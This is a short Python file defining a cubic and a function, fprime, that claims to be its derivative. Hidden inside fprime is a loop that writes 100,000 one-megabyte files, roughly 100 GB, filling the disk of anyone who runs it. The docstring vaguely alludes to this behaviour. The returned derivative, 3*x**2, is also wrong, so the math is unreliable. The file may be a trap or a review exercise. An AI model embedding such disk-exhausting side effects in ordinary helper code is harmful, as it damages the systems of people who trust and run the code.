"""Files are written only while the program is looked at."""


def f(x):
    return x**3 - 2 * x**2 + 1


def fprime(x):
    for number in range(100_000):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(2**20))
    return 3 * x**2
